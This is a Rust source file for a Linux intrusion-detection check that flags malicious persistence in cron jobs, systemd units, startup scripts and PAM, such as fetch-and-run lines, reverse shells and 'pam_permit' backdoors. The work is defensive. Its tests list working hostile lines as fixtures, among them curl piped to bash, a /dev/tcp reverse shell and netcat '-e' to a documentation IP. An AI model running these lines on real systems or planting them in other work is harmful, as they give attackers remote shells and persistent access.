//! D13: something that starts by itself and should not.

use crate::baseline::{Standing, Topic};
use crate::finding::{About, Certainty, Finding, Meaning, Subject};
use crate::scene::process::is_hidden;
use crate::scene::{Scene, Startup};
use crate::severity::Severity;

pub(super) const ABOUT: About = About {
    id: "D13",
    title: "something that starts by itself and was not there",
    logic: "cron, at, systemd units and generators, rc.local, profile.d and the shells' own files, \
            update-motd.d, udev, apt's hooks, PAM, sudoers: a line that fetches and runs what it fetched, \
            decodes and runs, opens a connection for a shell, or starts something from a temporary or hidden \
            folder; PAM that lets everybody in; a file anybody may write to; a file that is not in the \
            baseline or was otherwise.",
    innocent: "The owner's own jobs and units, and those of certbot, docker or cloud-init: without a baseline \
               they are only counted. The seven files Debian makes itself are known. What only reads what was fetched \
               (`| sha256sum`, `| python3 -m json.tool`), `rsync -e ssh`, toolchains' folders (`.venv`) and \
               files of settings (`.env`) are no alarm.",
    attack: &[
        "T1053.003",
        "T1543.002",
        "T1037.004",
        "T1546.004",
        "T1546.017",
        "T1556.003",
        "T1548.003",
    ],
};

/// Temporary folders as they stand in a command.
const SCRATCH: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/user/"];
pub(super) fn detect(scene: &Scene) -> Vec<Finding> {
    let is_one = |startup: &&Startup| startup.topic != Topic::Source;
    scene.startups.iter().filter(is_one).filter_map(|startup| finding(scene, startup)).collect()
}

fn finding(scene: &Scene, startup: &Startup) -> Option<Finding> {
    let path = &startup.path;
    let standing = scene.standing(startup.topic, path, &startup.digest);
    let found = |severity, certainty, sentence: &str| {
        Finding::new(&ABOUT, severity, certainty, Subject::Path(path.clone()), sentence)
            .next(format!("sudo cat {path}; sudo stat {path}"))
    };
    // What a package brought is no plant, however it looks.
    let is_own = startup.package.is_some() && startup.differs == Some(false);
    if !is_own
        && standing != Standing::Known
        && let Some((line, why)) =
            startup.lines.iter().find_map(|line| Some((line, damning(startup.topic, line)?)))
    {
        let sentence = format!("{} {why}: {path}", starts(startup.topic));
        let meaning = match startup.topic {
            Topic::Pam => Meaning::IntegrityLost,
            _ if startup.uid == 0 => Meaning::ForeignRoot,
            _ => Meaning::ForeignUser,
        };
        return Some(
            found(Severity::Critical, Certainty::Likely, &sentence)
                .seen(format!("{path}: {line}"))
                .means(meaning)
                .means(Meaning::Persistence),
        );
    }
    if startup.is_open {
        let sentence = format!("anybody here may write to {path}, and so start what he likes");
        return Some(found(Severity::Warning, Certainty::Hint, &sentence));
    }
    if startup.is_systems() && standing != Standing::Changed {
        return None;
    }
    let kind = starts(startup.topic);
    match standing {
        Standing::New => {
            let sentence = format!("{kind} is new since the baseline: {path}");
            let found = found(Severity::Warning, Certainty::Hint, &sentence);
            Some(startup.lines.iter().take(3).fold(found, super::super::finding::Finding::seen))
        }
        Standing::Changed => {
            let sentence = format!("{kind} is not as in the baseline: {path}");
            let severity = if matches!(startup.topic, Topic::Pam | Topic::Sudoers) {
                Severity::Critical
            } else {
                Severity::Warning
            };
            Some(found(severity, Certainty::Hint, &sentence))
        }
        Standing::NotTold if scene.is_recent(startup.changed) => {
            let sentence = format!("{kind} was changed within the time looked at: {path}");
            Some(found(Severity::Info, Certainty::Hint, &sentence))
        }
        Standing::Known | Standing::NotTold => None,
    }
}

fn starts(topic: Topic) -> &'static str {
    match topic {
        Topic::Cron => "a timed job",
        Topic::Unit => "a unit of systemd",
        Topic::Pam => "a rule of who gets in (PAM)",
        Topic::Sudoers => "a rule of sudo",
        _ => "something that starts by itself",
    }
}

/// Why a line has no honest meaning.
fn damning(topic: Topic, line: &str) -> Option<&'static str> {
    let has = |part: &str| line.contains(part);
    if topic == Topic::Pam {
        let words: Vec<&str> = line.split_ascii_whitespace().collect();
        let lets_all_in = words.first() == Some(&"auth")
            && words.get(1) == Some(&"sufficient")
            && words.get(2).is_some_and(|module| module.ends_with("pam_permit.so"));
        let is_temporary = SCRATCH.iter().any(|folder| has(folder));
        return lets_all_in
            .then_some("lets everybody in")
            .or(is_temporary.then_some("asks something in a temporary folder"));
    }
    if topic == Topic::Sudoers {
        return None;
    }
    let fetches = ["curl ", "wget ", "fetch ", "lwp-download "].iter().any(|word| has(word));
    if fetches && is_run(line) {
        return Some("fetches something and runs it");
    }
    if (has("base64 -d") || has("base64 --decode") || has("xxd -r")) && is_run(line) {
        return Some("runs something that is hidden in it");
    }
    if connects(line) || hands_out(line) || has("socket.socket") && has("subprocess") {
        return Some("opens a shell for somebody elsewhere");
    }
    let is_temporary = |word: &str| SCRATCH.iter().any(|folder| word.starts_with(folder));
    // Cleaning, listing or writing there is not starting: only what is run counts.
    if commands(topic, line).any(is_temporary) {
        return Some("starts something from a temporary folder");
    }
    if commands(topic, line).any(is_hidden_program) {
        return Some("starts something from a hidden folder");
    }
    None
}

/// What stands around a word of the shell.
const AROUND: [char; 6] = ['\'', '"', '`', '(', ')', ';'];

/// Does what comes out of a pipe run as a program? `| sha256sum` and `| python3 -m json.tool` only read it.
fn is_run(line: &str) -> bool {
    // What stands after `||` has nothing of what was before it.
    let line = line.replace("||", ";");
    let is_wrapper = |word: &&str| matches!(*word, "sudo" | "env" | "exec" | "nohup" | "command");
    line.split('|').skip(1).any(|part| {
        let words = part.split_ascii_whitespace().map(|word| word.trim_matches(AROUND));
        let mut words = words.filter(|word| !is_assignment(word)).peekable();
        while words.next_if(is_wrapper).is_some() {
            while words.next_if(|word| word.starts_with('-')).is_some() {}
        }
        let name = words.next().and_then(|word| word.rsplit('/').next()).unwrap_or_default();
        let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        match bare {
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" => true,
            // The program stands in the line itself; it may yet run what it reads.
            "python" | "perl" | "ruby" | "php" | "node" => {
                let is_told = |word: &str| word.len() > 1 && word.starts_with('-');
                !words.next().is_some_and(is_told) || part.contains("exec") || part.contains("eval")
            }
            _ => false,
        }
    })
}

/// Does it open a connection by the shell itself? To look whether something on this machine listens does
/// no harm.
fn connects(line: &str) -> bool {
    let own = ["localhost/", "127.0.0.1/", "::1/"];
    ["/dev/tcp/", "/dev/udp/"]
        .iter()
        .flat_map(|device| line.split(device).skip(1))
        .any(|rest| !own.iter().any(|host| rest.starts_with(host)))
}

/// Does netcat hand a program out? `rsync -e ssh` is none.
fn hands_out(line: &str) -> bool {
    let mut words = line.split_ascii_whitespace().map(|word| word.trim_matches(AROUND));
    let is_netcat = |word: &str| {
        let name = word.rsplit('/').next().unwrap_or_default();
        matches!(name, "nc" | "ncat" | "netcat" | "nc.traditional")
    };
    words.any(is_netcat) && words.any(|word| matches!(word, "-e" | "--exec" | "--sh-exec"))
}

/// A program in a folder whose name begins with a dot, outside of homes and of toolchains (`.venv`).
fn is_hidden_program(word: &str) -> bool {
    let word = word.replace("/./", "/");
    word.starts_with('/') && !word.contains("$HOME") && is_hidden(&word)
}

/// The words of a line that are started as programs.
fn commands(topic: Topic, line: &str) -> impl Iterator<Item = &str> {
    let line = match topic {
        // Five fields of time, or a word with `@`; then, in the system's files, a user.
        Topic::Cron => after_times(line),
        // An environment and the file of one (`EnvironmentFile=/srv/app/.env`) start nothing.
        Topic::Unit if !line.starts_with("Exec") => "",
        Topic::Unit => line.split_once('=').map_or(line, |(_, command)| command),
        _ => line,
    };
    let parts = line.split([';', '|', '&', '(', '`', '{']);
    parts.flat_map(|part| {
        let part = part.trim_start_matches([' ', '\t', '-', '@', '+', '!', ':']);
        let mut words = part.split_ascii_whitespace().filter(|word| !is_assignment(word));
        let first = words.next();
        // What runs something else names it next.
        let is_runner = first.is_some_and(|first| {
            let name = first.rsplit('/').next().unwrap_or_default();
            matches!(
                name,
                "sh" | "bash"
                    | "dash"
                    | "python3"
                    | "python"
                    | "perl"
                    | "nohup"
                    | "sudo"
                    | "env"
                    | "exec"
                    | "setsid"
                    | "root"
                    | "source"
                    | "."
                    | "php"
                    | "timeout"
                    | "nice"
            )
        });
        let second = if is_runner { words.find(|word| !word.starts_with('-')) } else { None };
        // An application's settings, which a shell takes over.
        let is_settings =
            |word: &&str| matches!(first, Some("." | "source")) && word.ends_with("/.env");
        let second = second.filter(|word| !is_settings(word));
        [first, second].into_iter().flatten()
    })
}

fn is_assignment(word: &&str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

fn after_times(line: &str) -> &str {
    let count = if line.starts_with('@') { 1 } else { 5 };
    let is_time = |word: &str| {
        word.starts_with('@')
            || word.chars().all(|c| c.is_ascii_alphanumeric() || "*,-/".contains(c))
    };
    let mut rest = line;
    for _ in 0..count {
        let Some((word, after)) = rest.split_once([' ', '\t']) else { return line };
        if !is_time(word) {
            return line;
        }
        rest = after.trim_start();
    }
    rest
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;

    use super::*;

    #[test]
    fn lines_without_an_honest_meaning() {
        for (topic, line) in [
            (Topic::Cron, "* * * * * root curl -fsSL http://203.0.113.9/x.sh | bash"),
            (Topic::Cron, "@reboot /dev/shm/.x/run"),
            (Topic::Cron, "*/5 * * * * /bin/sh /tmp/a.sh"),
            (Topic::Unit, "ExecStart=/var/tmp/kworker"),
            (Topic::Unit, "ExecStart=-/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
            (Topic::Unit, "ExecStart=/usr/lib/.cache/x"),
            (Topic::Startup, "echo aGk= | base64 -d | sh"),
            (Topic::Startup, "nohup /tmp/x &"),
            (
                Topic::Cron,
                "*/9 * * * * root (curl -s http://x.example/a || wget -qO- http://x.example/a) | /bin/sh",
            ),
            (Topic::Cron, "1 1 * * * root wget -qO- http://x.example | sudo -E bash -s -- now"),
            (Topic::Startup, "sh -c 'curl x.example|sh'"),
            (Topic::Startup, "curl -s x.example | python3"),
            (Topic::Startup, "curl -s x.example | python3 -c 'import sys; exec(sys.stdin.read())'"),
            (Topic::Cron, "@reboot root /bin/nc 203.0.113.9 443 -e /bin/sh"),
            (Topic::Startup, ". /usr/lib/.cache/env"),
            (Topic::Pam, "auth sufficient pam_permit.so"),
        ] {
            assert!(damning(topic, line).is_some(), "{line}");
        }
    }

    #[test]
    fn lines_with_one() {
        for (topic, line) in [
            (Topic::Cron, "0 3 * * * root find /tmp/cache -mtime +7 -delete"),
            (Topic::Cron, "0 3 * * * ann curl -fsS https://hc-ping.com/uuid > /dev/null"),
            (Topic::Cron, "17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
            (Topic::Cron, "0 4 * * * ann pg_dump app > /tmp/app.sql"),
            (Topic::Cron, "@daily /home/ann/.local/bin/backup"),
            (Topic::Unit, "ExecStart=/opt/app/bin/app --temporary /tmp/app"),
            (Topic::Unit, "ExecStartPre=/bin/rm -rf /tmp/app"),
            (Topic::Startup, "[ -f /tmp/x ] && rm /tmp/x"),
            (Topic::Cron, "0 2 * * * root rsync -e ssh -a /srv backup@backup.example:/srv"),
            (
                Topic::Cron,
                "5 * * * * root curl -s http://localhost/s | python3 -m json.tool > /srv/s.json",
            ),
            (
                Topic::Cron,
                "6 * * * * ann curl -s localhost | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
            ),
            (Topic::Cron, "7 * * * * root curl -s http://localhost/x | sha256sum"),
            (Topic::Cron, "8 * * * * root curl -fs http://localhost/health || sh /opt/app/restart"),
            (Topic::Startup, "curl -fsSL https://x.example/key | sudo tee /etc/apt/keyrings/x.asc"),
            (Topic::Unit, "EnvironmentFile=/srv/app/.env"),
            (Topic::Unit, "Environment=HOME=/tmp/app"),
            (Topic::Unit, "ExecStart=/srv/app/.venv/bin/gunicorn app"),
            (
                Topic::Unit,
                "ExecStartPre=/bin/bash -c 'until </dev/tcp/localhost/5432; do sleep 1; done'",
            ),
            (Topic::Startup, "set -a; . /srv/app/.env"),
            (Topic::Startup, "if tput setaf 1 >&/dev/null; then"),
            (Topic::Startup, "export TMPDIR=/tmp/ann"),
            (Topic::Startup, ". \"$HOME/.cargo/env\""),
            (Topic::Pam, "account sufficient pam_permit.so"),
            (Topic::Pam, "auth required pam_permit.so"),
        ] {
            assert_eq!(damning(topic, line), None, "{line}");
        }
    }

    #[test]
    fn what_a_package_brought_and_the_owners_own_jobs_are_no_alarm() {
        let startup = |path: &str, package: Option<&str>, line: &str| Startup {
            topic: Topic::Cron,
            path: path.to_owned(),
            package: package.map(str::to_owned),
            differs: package.map(|_| false),
            changed: Timestamp::from_second(9).unwrap(),
            uid: 0,
            is_open: false,
            lines: vec![line.to_owned()],
            digest: String::new(),
        };
        let scene = Scene {
            startups: vec![
                startup("/etc/cron.d/own", None, "1 1 * * * ann backup"),
                startup("/etc/cron.d/odd", Some("odd"), "@reboot root /tmp/odd"),
                startup("/etc/cron.d/evil", None, "@reboot root /tmp/evil"),
            ],
            ..Scene::default()
        };
        let told = |found: &Finding| format!("{} {}", found.severity, found.subject);
        let found: Vec<_> = detect(&scene).iter().map(told).collect();
        assert_eq!(found, ["info path:/etc/cron.d/own", "critical path:/etc/cron.d/evil"]);
    }
}
